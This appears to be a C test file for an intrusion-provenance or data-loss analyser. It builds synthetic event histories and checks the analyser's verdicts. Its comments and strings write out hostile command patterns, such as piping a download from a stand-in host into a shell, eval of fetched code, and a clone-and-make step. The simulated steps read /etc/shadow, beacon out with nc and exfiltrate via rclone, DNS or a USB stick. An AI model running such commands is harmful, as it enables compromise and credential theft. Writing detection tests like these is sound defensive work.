/* Intrusions that came by what somebody here fetched and ran, on small histories made by hand. */
#include "ledger.h"
#include "loss/loss.h"
#include "query_tests.h"
#include "test.h"

enum {
    EVIL = 1,
    LOGIN,
    SSHD,
    BASH,
    CURL,
    PIPE,
    SH,
    TOOL,
    CAT,
    HASHES,
    STICK,
    BEACON,
    GIT,
    HELPER,
    MAKEFILE,
    MAKE,
    CRON,
    TABLE,
    BACKUP,
    COPY,
    SYNC,
    LIST,
    QUESTION,
    MIRROR,
    SECOND,
    PART,
    HTTPD,
    VISIT,
    ALIAS,
    ANSWER
};

static const char ASSETS[] = "assets:\n"
                             "  - {host: web01, path: \"/etc/shadow\", name: hashes}\n"
                             "  - {path: \"/media/**\", name: sticks, classification: exit}\n"
                             "  - {address: 10.0.0.77, name: mirror, classification: exit}\n";

static void entities(struct world *w)
{
    world_connection(w, EVIL, BTR_ENTITY_OUTSIDE, "10.0.0.1", "4000", "10.9.9.9", "80");
    world_connection(w, BEACON, BTR_ENTITY_OUTSIDE, "10.0.0.1", "4001", "10.9.9.9", "443");
    world_process(w, SSHD, "web01", "/usr/sbin/sshd", "sshd", NULL);
    world_process(w, BASH, "web01", "/bin/bash", "bash", NULL);
    world_process(w, CURL, "web01", "/usr/bin/curl", "curl http://10.9.9.9/x", NULL);
    world_process(w, SH, "web01", "/bin/dash", "sh", NULL);
    world_process(w, TOOL, "web01", "/usr/bin/nc", "nc", NULL);
    world_process(w, CAT, "web01", "/bin/cat", "cat", NULL);
    world_process(w, GIT, "web01", "/usr/bin/git", "git clone", NULL);
    world_process(w, HELPER, "web01", "/usr/lib/git-core/git-remote-http", "git remote-http", NULL);
    world_process(w, MAKE, "web01", "/usr/bin/make", "make", NULL);
    world_process(w, CRON, "web01", "/usr/sbin/cron", "cron", NULL);
    world_file(w, ALIAS, "web01", "/var/www/alias");
    world_note(w, ANSWER, BTR_KIND_CHANNEL, 0, "web01", 0);
    world_process(w, HTTPD, "web01", "/usr/sbin/httpd", "httpd", NULL);
    world_process(w, PART, "web01", "/usr/sbin/cron", "cron", NULL);
    world_process(w, BACKUP, "web01", "/bin/tar", "tar", NULL);
    world_note(w, PIPE, BTR_KIND_CHANNEL, 0, "web01", 0);
    world_file(w, HASHES, "web01", "/etc/shadow");
    world_file(w, STICK, "web01", "/media/stick/x");
    world_file(w, MAKEFILE, "web01", "/home/dev/p/Makefile");
    world_file(w, TABLE, "web01", "/etc/cron.d/x");
    world_file(w, COPY, "web01", "/srv/backup/x");
    world_file(w, LIST, "web01", "/home/dev/list");
    world_process(w, SYNC, "web01", "/bin/bash", "bash", NULL);
    world_process(w, SECOND, "web01", "/bin/dash", "sh", NULL);
    world_note(w, QUESTION, BTR_KIND_DNS, 0, NULL, BTR_ATTR_DNS_QUESTION_NAME, "x.example", 0);
    world_connection(w, MIRROR, 0, "10.0.0.1", "4003", "10.0.0.77", "80");
    world_connection(w, VISIT, BTR_ENTITY_OUTSIDE, "10.8.8.8", "4100", "10.0.0.1", "80");
}

/* From where the intrusion came: a script, say. */
static void fetches(struct world *w, uint64_t process)
{
    world_does(w, process, BTR_OP_CONNECT, EVIL);
    world_does(w, process, BTR_OP_RECV, EVIL)->bytes = 4000;
}

static void pipes(struct world *w, uint64_t from, uint64_t to)
{
    world_does(w, from, BTR_OP_WRITE, PIPE)->bytes = 4000;
    world_does(w, to, BTR_OP_READ, PIPE)->bytes = 4000;
}

/* A new file. */
static void writes(struct world *w, uint64_t process, uint64_t file, uint64_t bytes)
{
    world_does(w, process, BTR_OP_CREATE, file);
    world_does(w, process, BTR_OP_WRITE, file)->bytes = bytes;
}

/* By a process: what it starts steals, and then somebody else of it is the alert. */
static void steals(struct world *w, uint64_t process)
{
    world_does(w, process, BTR_OP_FORK, CAT);
    world_does(w, CAT, BTR_OP_READ, HASHES)->bytes = 900;
    writes(w, CAT, STICK, 900);
    world_does(w, process, BTR_OP_FORK, TOOL);
    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
}

typedef void history(struct world *w);

static void expect(history *make, enum loss_verdict verdict)
{
    struct ledger l;
    struct world w;
    world_open(&w);
    entities(&w);
    make(&w);
    world_publish(&w, "made.log");
    ledger_make(&l, &w, TOOL, w.now_ns, ASSETS);
    assert_int_equal(l.loss->rows[0].verdict, verdict);
    ledger_free(&l);
    world_close(&w);
}

/* curl http://10.9.9.9/x | sh */
static void fetched_into_a_shell(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, CURL);
    world_does(w, BASH, BTR_OP_FORK, SH);
    fetches(w, CURL);
    pipes(w, CURL, SH);
    steals(w, SH);
}

/* git clone http://10.9.9.9/p; make */
static void fetched_and_built(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, GIT);
    world_does(w, GIT, BTR_OP_FORK, HELPER);
    fetches(w, HELPER);
    pipes(w, HELPER, GIT);
    writes(w, GIT, MAKEFILE, 4000);
    world_does(w, BASH, BTR_OP_FORK, MAKE);
    world_does(w, MAKE, BTR_OP_READ, MAKEFILE)->bytes = 4000;
    steals(w, MAKE);
}

static void what_was_fetched_and_run_is_the_intrusion(void **state)
{
    (void)state;
    expect(fetched_into_a_shell, LOSS_LOST);
    expect(fetched_and_built, LOSS_LOST);
}

/* The alert came of a job: cron had started others before. */
static void by_cron(struct world *w)
{
    world_does(w, SSHD, BTR_OP_FORK, CRON);
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    writes(w, CURL, TABLE, 4000);
    world_does(w, CRON, BTR_OP_READ, TABLE)->bytes = 4000;
    world_does(w, CRON, BTR_OP_FORK, TOOL);
    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
}

/* What came is told to somebody whom cron started, as others before; that starts the alert. */
static void by_a_child_of_cron(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    pipes(w, CURL, PART);
    world_does(w, PART, BTR_OP_FORK, TOOL);
    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
}

static void by_a_part_of_cron(struct world *w)
{
    world_does(w, SSHD, BTR_OP_FORK, CRON);
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_FORK, PART);
    by_a_child_of_cron(w);
}

/* Of this nobody tells whether it had started others. */
static void by_a_part_of_an_old_cron(struct world *w)
{
    world_does(w, CRON, BTR_OP_FORK, PART);
    by_a_child_of_cron(w);
}

static void by_the_first_part_of_cron(struct world *w)
{
    world_does(w, SSHD, BTR_OP_FORK, CRON);
    world_does(w, CRON, BTR_OP_FORK, PART);
    by_a_child_of_cron(w);
}

static void by_a_part_of_a_part_of_cron(struct world *w)
{
    world_does(w, SSHD, BTR_OP_FORK, CRON);
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_FORK, SECOND);
    world_runs(w, SECOND, "/usr/sbin/cron", "cron");
    world_does(w, SECOND, BTR_OP_FORK, PART);
    by_a_child_of_cron(w);
}

/* It runs a program of its own. */
static void by_a_shell_of_cron(struct world *w)
{
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_FORK, PART);
    world_runs(w, PART, "/bin/dash", "sh");
    by_a_child_of_cron(w);
}

/* It runs the same one anew. */
static void by_a_cron_of_cron(struct world *w)
{
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_FORK, PART);
    world_does(w, PART, BTR_OP_EXEC, LIST);
    by_a_child_of_cron(w);
}

/* It runs one once it was told. */
static void by_a_job_of_cron(struct world *w)
{
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_FORK, PART);
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    pipes(w, CURL, PART);
    world_does(w, PART, BTR_OP_EXEC, LIST);
    world_does(w, PART, BTR_OP_FORK, TOOL);
    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
}

/* By the part of a part of a shell that had started nothing before. */
static void by_a_subshell(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, CURL);
    world_does(w, BASH, BTR_OP_FORK, SH);
    world_does(w, SH, BTR_OP_FORK, SECOND);
    fetches(w, CURL);
    pipes(w, CURL, SECOND);
    steals(w, SECOND);
}

/* What was fetched was copied by a backup, and it is the copy that somebody ran. */
static void carried(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    writes(w, CURL, MAKEFILE, 4000);
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, BACKUP, BTR_OP_READ, MAKEFILE)->bytes = 4000;
    writes(w, BACKUP, COPY, 4000);
    world_does(w, BASH, BTR_OP_FORK, TOOL);
    world_does(w, TOOL, BTR_OP_READ, COPY)->bytes = 4000;
    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
}

/* The same, and it is a shell that was told what to do before that reads the copy. */
static void carried_to_its_own(struct world *w)
{
    carried(w);
    w->batch.event_count -= 3;
    w->now_ns -= 3000000000;
    world_does(w, BASH, BTR_OP_FORK, SH);
    world_does(w, CURL, BTR_OP_WRITE, PIPE)->bytes = 40;
    world_does(w, SH, BTR_OP_READ, PIPE)->bytes = 40;
    world_does(w, SH, BTR_OP_READ, COPY)->bytes = 4000;
    world_does(w, SH, BTR_OP_FORK, TOOL);
    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
}

/* Whether a process is the intrusion's own after a history. */
static bool owns(history *make, uint64_t process)
{
    struct ledger l;
    struct world w;
    world_open(&w);
    entities(&w);
    make(&w);
    world_publish(&w, "made.log");
    ledger_make(&l, &w, TOOL, w.now_ns, ASSETS);
    bool own = loss_is_its_own(l.loss, world_id(process));
    ledger_free(&l);
    world_close(&w);
    return own;
}

static void who_does_it_for_others_or_carries_it_is_not(void **state)
{
    (void)state;
    assert_true(owns(fetched_into_a_shell, SH));
    assert_false(owns(fetched_into_a_shell, BASH));
    assert_true(owns(fetched_and_built, GIT));
    assert_true(owns(fetched_and_built, MAKE));
    assert_true(owns(by_cron, CURL));
    assert_false(owns(by_cron, CRON));
    assert_false(owns(by_a_part_of_cron, PART));
    assert_false(owns(by_a_part_of_a_part_of_cron, PART));
    assert_false(owns(by_a_part_of_an_old_cron, PART));
    assert_true(owns(by_the_first_part_of_cron, PART));
    assert_true(owns(by_a_shell_of_cron, PART));
    assert_true(owns(by_a_cron_of_cron, PART));
    assert_true(owns(by_a_job_of_cron, PART));
    assert_true(owns(by_a_subshell, SECOND));
    assert_true(owns(carried, CURL));
    assert_false(owns(carried, BACKUP));
    assert_true(owns(carried_to_its_own, SH));
    assert_false(owns(carried_to_its_own, BACKUP));
}

/* A shell that a shell started: the alert is what it did itself. */
static void by_the_alert_itself(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, TOOL);
    world_runs(w, TOOL, "/bin/bash", "bash");
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    pipes(w, CURL, TOOL);
    world_does(w, TOOL, BTR_OP_READ, HASHES)->bytes = 900;
    world_does(w, TOOL, BTR_OP_CONNECT, BEACON);
    world_does(w, TOOL, BTR_OP_SEND, BEACON)->bytes = 900;
}

/* The same of a process of a server, as of a login. */
static void by_a_server(struct world *w)
{
    world_does(w, BASH, BTR_OP_ACCEPT, PIPE);
    world_does(w, BASH, BTR_OP_ACCEPT, LIST);
    by_the_alert_itself(w);
}

static void the_alerts_own_process_is_driven_unless_a_server_started_it(void **state)
{
    (void)state;
    expect(by_the_alert_itself, LOSS_LOST);
    expect(by_a_server, LOSS_POSSIBLY);
}

/* The alert's script wrote a list of which somebody else, in the program that it ran in the end,
 * sends out what it names. */
static void read_by_a_later_program(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, CURL);
    world_does(w, BASH, BTR_OP_FORK, SH);
    fetches(w, CURL);
    pipes(w, CURL, SH);
    world_does(w, SH, BTR_OP_FORK, TOOL);
    writes(w, TOOL, LIST, 40);
    int64_t alert_ns = w->now_ns;
    world_does(w, BASH, BTR_OP_FORK, SYNC);
    world_does(w, SYNC, BTR_OP_READ, LIST)->bytes = 40;
    world_runs(w, SYNC, "/usr/bin/rclone", "rclone");
    world_does(w, SYNC, BTR_OP_READ, HASHES)->bytes = 900;
    world_does(w, SYNC, BTR_OP_CONNECT, LOGIN);
    world_does(w, SYNC, BTR_OP_SEND, LOGIN)->bytes = 900;
    w->now_ns = alert_ns;
}

/* That without its last steps: something else follows. */
static void read_but_the_last(struct world *w, uint32_t steps)
{
    read_by_a_later_program(w);
    w->batch.event_count -= steps;
    w->now_ns += (6 - (int64_t)steps) * 1000000000;
}

/* The same by what it starts. */
static void read_by_what_is_started(struct world *w)
{
    read_but_the_last(w, 3);
    world_does(w, SYNC, BTR_OP_FORK, BACKUP);
    world_does(w, BACKUP, BTR_OP_READ, HASHES)->bytes = 900;
    world_does(w, BACKUP, BTR_OP_CONNECT, LOGIN);
    world_does(w, BACKUP, BTR_OP_SEND, LOGIN)->bytes = 900;
    w->now_ns -= 7000000000;
}

/* The same by other ways out: a move to a stick, a question to a name server, an exit's address. */
static void read_and_moved(struct world *w)
{
    read_but_the_last(w, 3);
    world_does(w, SYNC, BTR_OP_RENAME, STICK);
    world_event(w, HASHES, BTR_OP_RENAMED, STICK, w->now_ns, w->now_ns)->flags = BTR_EVENT_PART;
    w->now_ns -= 4000000000;
}

static void read_and_sent(struct world *w, enum btr_operation operation, uint64_t to)
{
    read_but_the_last(w, 2);
    world_does(w, SYNC, operation, to);
    w->now_ns -= 5000000000;
}

static void read_and_asked(struct world *w)
{
    read_and_sent(w, BTR_OP_DNS_QUERY, QUESTION);
}

static void read_and_mirrored(struct world *w)
{
    read_and_sent(w, BTR_OP_CONNECT, MIRROR);
}

/* A server hands a file out to somebody outside. */
static void handed_out(struct world *w, uint64_t file)
{
    world_does(w, HTTPD, BTR_OP_ACCEPT, VISIT);
    world_does(w, HTTPD, BTR_OP_RECV, VISIT)->bytes = 90;
    world_does(w, HTTPD, BTR_OP_READ, file)->bytes = 900;
    world_does(w, HTTPD, BTR_OP_SEND, VISIT)->bytes = 900;
    w->now_ns -= 4000000000;
}

/* It is put where a server finds it: written, or moved there unread. */
static void read_and_served(struct world *w)
{
    read_but_the_last(w, 2);
    writes(w, SYNC, COPY, 900);
    handed_out(w, COPY);
    w->now_ns -= 6000000000;
}

static void read_and_moved_to_a_server(struct world *w)
{
    read_but_the_last(w, 3);
    world_does(w, SYNC, BTR_OP_RENAME, COPY);
    world_event(w, HASHES, BTR_OP_RENAMED, COPY, w->now_ns, w->now_ns)->flags = BTR_EVENT_PART;
    handed_out(w, COPY);
    w->now_ns -= 4000000000;
}

/* It is handed out under another name of it, or where somebody else moved it. */
static void read_and_served_by_an_alias(struct world *w)
{
    read_but_the_last(w, 2);
    writes(w, SYNC, COPY, 900);
    world_event(w, COPY, BTR_OP_SAME, ALIAS, w->now_ns, w->now_ns)->flags = BTR_EVENT_IMPLIED;
    handed_out(w, ALIAS);
    w->now_ns -= 6000000000;
}

static void read_and_moved_on_by_another(struct world *w)
{
    read_but_the_last(w, 2);
    writes(w, SYNC, COPY, 900);
    world_does(w, BACKUP, BTR_OP_RENAME, ALIAS);
    world_event(w, COPY, BTR_OP_RENAMED, ALIAS, w->now_ns, w->now_ns)->flags = BTR_EVENT_PART;
    handed_out(w, ALIAS);
    w->now_ns -= 7000000000;
}

/* It is put somewhere, and the server hands out what it wrote itself. */
static void read_and_served_something_else(struct world *w)
{
    read_but_the_last(w, 2);
    writes(w, SYNC, COPY, 900);
    writes(w, HTTPD, TABLE, 900);
    handed_out(w, TABLE);
    w->now_ns -= 8000000000;
}

/* eval "$(curl http://10.9.9.9/x)", by a shell that had started something before. */
static void evaluated(struct world *w)
{
    world_does(w, SSHD, BTR_OP_FORK, BASH);
    world_does(w, BASH, BTR_OP_FORK, BACKUP);
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    pipes(w, CURL, BASH);
    steals(w, BASH);
}

/* The same, by a shell of which no record tells who started it. */
static void evaluated_by_an_old_shell(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    pipes(w, CURL, BASH);
    steals(w, BASH);
}

/* By a part of a daemon that had started others. */
static void evaluated_by_a_part(struct world *w)
{
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_FORK, PART);
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    pipes(w, CURL, PART);
    steals(w, PART);
}

/* By what such a part starts, which hands it back to the daemon, and that sends it. */
static void evaluated_by_a_part_and_handed_back(struct world *w)
{
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_CONNECT, LOGIN);
    world_does(w, CRON, BTR_OP_FORK, PART);
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    pipes(w, CURL, PART);
    world_does(w, PART, BTR_OP_FORK, CAT);
    world_does(w, CAT, BTR_OP_READ, HASHES)->bytes = 900;
    world_does(w, CAT, BTR_OP_WRITE, ANSWER)->bytes = 900;
    world_does(w, CRON, BTR_OP_READ, ANSWER)->bytes = 900;
    world_does(w, CRON, BTR_OP_SEND, LOGIN)->bytes = 900;
    world_does(w, PART, BTR_OP_FORK, TOOL);
    writes(w, TOOL, TABLE, 9);
}

/* By what it starts, which answers somebody. */
static void evaluated_by_a_part_that_answers(struct world *w)
{
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_FORK, PART);
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    pipes(w, CURL, PART);
    world_does(w, PART, BTR_OP_FORK, TOOL);
    writes(w, TOOL, TABLE, 9);
    int64_t alert_ns = w->now_ns;
    world_does(w, PART, BTR_OP_FORK, CAT);
    world_does(w, CAT, BTR_OP_ACCEPT, VISIT);
    world_does(w, CAT, BTR_OP_RECV, VISIT)->bytes = 9;
    world_does(w, CAT, BTR_OP_READ, HASHES)->bytes = 900;
    world_does(w, CAT, BTR_OP_SEND, VISIT)->bytes = 900;
    w->now_ns = alert_ns;
}

/* . ./x, the same from a file. */
static void sourced(struct world *w)
{
    world_does(w, SSHD, BTR_OP_FORK, BASH);
    world_does(w, BASH, BTR_OP_FORK, BACKUP);
    world_does(w, BASH, BTR_OP_FORK, CURL);
    fetches(w, CURL);
    writes(w, CURL, MAKEFILE, 4000);
    world_does(w, BASH, BTR_OP_READ, MAKEFILE)->bytes = 4000;
    steals(w, BASH);
}

static void who_then_sends_something_may_be_steered(void **state)
{
    static history *const HISTORIES[] = {read_by_a_later_program,
                                         read_by_what_is_started,
                                         read_and_moved,
                                         read_and_asked,
                                         read_and_mirrored,
                                         read_and_served,
                                         read_and_moved_to_a_server,
                                         read_and_served_by_an_alias,
                                         read_and_moved_on_by_another,
                                         evaluated,
                                         evaluated_by_an_old_shell,
                                         evaluated_by_a_part,
                                         evaluated_by_a_part_and_handed_back,
                                         evaluated_by_a_part_that_answers,
                                         sourced};
    (void)state;
    for (size_t i = 0; i < sizeof HISTORIES / sizeof *HISTORIES; i++) {
        struct ledger l;
        struct world w;
        world_open(&w);
        entities(&w);
        world_connection(&w, LOGIN, BTR_ENTITY_OUTSIDE, "10.0.0.1", "4002", "10.7.7.7", "443");
        HISTORIES[i](&w);
        int64_t alert_ns = w.now_ns;
        world_publish(&w, "made.log");
        ledger_make(&l, &w, TOOL, alert_ns, ASSETS);
        assert_int_not_equal(l.loss->rows[0].steered, LOSS_NONE);
        assert_int_equal(l.loss->rows[0].verdict, LOSS_CANNOT_KNOW);
        ledger_free(&l);
        world_close(&w);
    }
}

static void who_puts_it_where_nobody_fetches_it_sent_nothing(void **state)
{
    (void)state;
    expect(read_and_served_something_else, LOSS_NOT);
}

/* The alert is the download: nothing leads from it to what was run of it. */
static void of_a_download_what_ran_it_may_be_steered(void **state)
{
    static const struct {
        history *make;
        uint64_t alert;
    } CASES[] = {{fetched_into_a_shell, CURL}, {fetched_and_built, HELPER}};
    (void)state;
    for (size_t i = 0; i < sizeof CASES / sizeof *CASES; i++) {
        struct ledger l;
        struct world w;
        world_open(&w);
        entities(&w);
        CASES[i].make(&w);
        world_publish(&w, "made.log");
        ledger_make(&l, &w, CASES[i].alert, w.now_ns, ASSETS);
        assert_false(loss_is_its_own(l.loss, world_id(SH)));
        assert_false(loss_is_its_own(l.loss, world_id(MAKE)));
        assert_int_not_equal(l.loss->rows[0].steered, LOSS_NONE);
        assert_int_equal(l.loss->rows[0].verdict, LOSS_CANNOT_KNOW);
        ledger_free(&l);
        world_close(&w);
    }
}

/* ---- Intrusions that came by no connection ---- */

/* By a process: what it starts copies to a stick, and then somebody else of it is the alert. */
static void copies(struct world *w, uint64_t process)
{
    world_does(w, process, BTR_OP_FORK, CAT);
    world_does(w, CAT, BTR_OP_READ, HASHES)->bytes = 900;
    writes(w, CAT, STICK, 900);
    world_does(w, process, BTR_OP_FORK, TOOL);
    writes(w, TOOL, COPY, 9);
}

/* Somebody logs in at the console. */
static void at_the_console(struct world *w)
{
    world_does(w, CRON, BTR_OP_FORK, BACKUP);
    world_does(w, CRON, BTR_OP_FORK, SYNC);
    world_does(w, SYNC, BTR_OP_FORK, BASH);
    copies(w, BASH);
}

/* Somebody runs a script that lies on a stick. */
static void by_a_script_of_a_stick(struct world *w)
{
    world_does(w, BASH, BTR_OP_FORK, BACKUP);
    world_does(w, BASH, BTR_OP_FORK, SH);
    world_does(w, SH, BTR_OP_READ, LIST)->bytes = 400;
    copies(w, SH);
}

static void what_came_by_no_connection_is_followed_as_well(void **state)
{
    (void)state;
    expect(at_the_console, LOSS_LOST);
    expect(by_a_script_of_a_stick, LOSS_LOST);
}

int loss_through_tests(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_was_fetched_and_run_is_the_intrusion),
        cmocka_unit_test(who_does_it_for_others_or_carries_it_is_not),
        cmocka_unit_test(the_alerts_own_process_is_driven_unless_a_server_started_it),
        cmocka_unit_test(what_came_by_no_connection_is_followed_as_well),
        cmocka_unit_test(who_puts_it_where_nobody_fetches_it_sent_nothing),
        cmocka_unit_test(who_then_sends_something_may_be_steered),
        cmocka_unit_test(of_a_download_what_ran_it_may_be_steered),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
